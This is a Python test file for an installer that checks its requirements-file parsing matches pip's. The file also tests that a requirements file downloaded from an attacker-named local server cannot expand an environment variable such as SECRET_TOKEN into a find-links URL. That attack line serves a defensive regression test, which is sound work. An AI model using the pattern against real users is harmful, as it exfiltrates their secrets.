"""Requirement files end to end: one of everything their grammar knows, and pip reads the same."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

from tests.functional.conftest import LocalIndex
from tests.functional.engine import Engine, run
from tests.servers import make_wheel
from tests.servers.static import StaticServer

MAIN = """\
# -*- coding: latin-1 -*-
# a comment, naïvely encoded
app[more] >= 1.0, \\
    < 2.0   # continued, and commented
-r nested/more.txt
--constraint nested/limits.txt
${NAME}==1.5
skipped ; python_version < "3"
./local/local_wheel-1.0-py3-none-any.whl
--pre
"""
NESTED = "\ufeffearly\n./beside_wheel-1.0-py3-none-any.whl\n"
LIMITS = "library < 2\n"


def test_a_requirements_file_with_every_feature_means_the_same_as_in_pip(
    engine: Engine, index: LocalIndex, venv: Path, tmp_path: Path
) -> None:
    index.add("app", "1.2", requires=["library", "extra; extra == 'more'"], extras=["more"])
    for name, version in (("app", "2.0"), ("library", "1.0"), ("library", "2.0"), ("extra", "1.0")):
        index.add(name, version)
    for name, version in (("early", "1.0"), ("early", "2.0rc1"), ("variable", "1.5")):
        index.add(name, version)
    here = tmp_path / "project"
    for folder in ("nested", "local"):
        (here / folder).mkdir(parents=True)
    make_wheel(here / "local", "local_wheel", "1.0")
    make_wheel(here, "beside_wheel", "1.0")
    (here / "requirements.txt").write_text(MAIN, encoding="latin-1")
    (here / "nested" / "more.txt").write_text(NESTED, encoding="utf-8")
    (here / "nested" / "limits.txt").write_text(LIMITS, encoding="utf-16")
    environ = {"NAME": "variable", "HOME": str(tmp_path)}
    report = ("--dry-run", "--ignore-installed", "--report", "-", "-r", "requirements.txt")
    options = ("--venv", venv, "--installer", "none")
    ours = engine.succeeds(*options, *report, *index.options, environ=environ, cwd=here).out
    pip = (sys.executable, "-m", "pip", "install", "-q", "--disable-pip-version-check")
    theirs = run(*pip, *report, *index.options, env=environ, cwd=here)
    assert summary(ours) == summary(theirs)
    assert {name for name, *_ in summary(ours)} == {
        *("app", "library", "extra", "early", "variable", "local-wheel", "beside-wheel")
    }


def summary(report: str) -> set[tuple[str, str, bool, tuple[str, ...]]]:
    found: list[dict[str, Any]] = json.loads(report)["install"]
    return {
        (
            each["metadata"]["name"].replace("_", "-"),
            each["metadata"]["version"],
            each["requested"],
            tuple(each.get("requested_extras", ())),
        )
        for each in found
    }


def test_a_file_from_the_network_gets_no_value_of_a_variable(
    engine: Engine, index: LocalIndex, venv: Path, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    site.mkdir()
    environ = {"SECRET_TOKEN": "hunter2"}
    with StaticServer(site) as evil:
        stolen = f"--find-links {evil.url}/wheels/${{SECRET_TOKEN}}/links.html\n"
        (site / "requirements.txt").write_text(f"{stolen}extra\n")
        index.add("extra", "1.0")
        listed = ("--installer", "none", "-r", f"{evil.url}/requirements.txt")
        done = engine.succeeds("--venv", venv, *listed, *index.options, environ=environ)
        assert "hunter2" not in "".join(evil.paths) + done.text
        assert any(path.startswith("/wheels/") for path in evil.paths)
        assert "${SECRET_TOKEN} is not replaced by the variable" in done.err
